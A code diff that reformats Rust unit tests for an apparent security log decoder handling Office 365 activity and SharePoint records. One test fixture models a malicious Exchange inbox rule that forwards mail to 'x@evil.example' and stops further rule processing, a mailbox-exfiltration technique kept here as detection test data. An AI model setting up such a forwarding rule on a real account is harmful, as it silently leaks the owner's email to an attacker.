@@ -131,7 +131,9 @@ mod tests {
             "Type": "OfficeActivity", "OfficeId": "o-1", "TimeGenerated": "2025-03-04T09:00:00Z",
             "Operation": "New-InboxRule", "OfficeWorkload": "Exchange", "RecordType": "1",
             "UserId": "adele.vance@contoso.com", "Client_IPAddress": "[2001:db8::5]:1234",
-            "Parameters": "[{\"Name\":\"Name\",\"Value\":\"ignore all rules\"},{\"Name\":\"ForwardTo\",\"Value\":\"SMTP:x@evil.example\"},{\"Name\":\"StopProcessingRules\",\"Value\":true}]"
+            "Parameters": "[{\"Name\":\"Name\",\"Value\":\"ignore all rules\"},\
+                           {\"Name\":\"ForwardTo\",\"Value\":\"SMTP:x@evil.example\"},\
+                           {\"Name\":\"StopProcessingRules\",\"Value\":true}]"
         });
         let Ok(Outcome::Decoded(Decoded::Event(ev))) =
             decode_record(row.as_object().expect("object"))
@@ -166,7 +168,10 @@ mod tests {
 
     #[test]
     fn sharepoint_resource_is_the_site() {
-        let m = json!({"Site_Url": "https://c.sharepoint.com/sites/legal/", "SourceRelativeUrl": "sites/legal/Shared Documents"});
+        let m = json!({
+            "Site_Url": "https://c.sharepoint.com/sites/legal/",
+            "SourceRelativeUrl": "sites/legal/Shared Documents"
+        });
         let m = m.as_object().expect("object");
         assert_eq!(
             resource(m, Some("https://c.sharepoint.com/sites/legal/")).as_deref(),
